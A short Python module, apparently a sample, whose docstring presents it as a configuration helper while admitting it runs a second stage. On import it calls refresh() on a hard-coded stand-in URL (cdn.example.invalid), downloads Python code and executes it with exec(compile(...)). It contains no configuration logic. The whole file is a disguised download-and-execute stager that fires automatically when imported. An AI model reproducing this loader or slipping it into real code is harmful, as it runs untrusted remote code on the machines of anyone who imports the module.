"""Looks like a configuration helper; on import it runs a second stage from a URL written in the code."""

import urllib.request

STAGE = "https://cdn.example.invalid/assets/loader.py"


def _load_remote(address):
    with urllib.request.urlopen(address) as response:
        text = response.read()
    exec(compile(text, "<remote>", "exec"), {"__name__": "__stage__"})


def refresh(address):
    _load_remote(address)


refresh(STAGE)
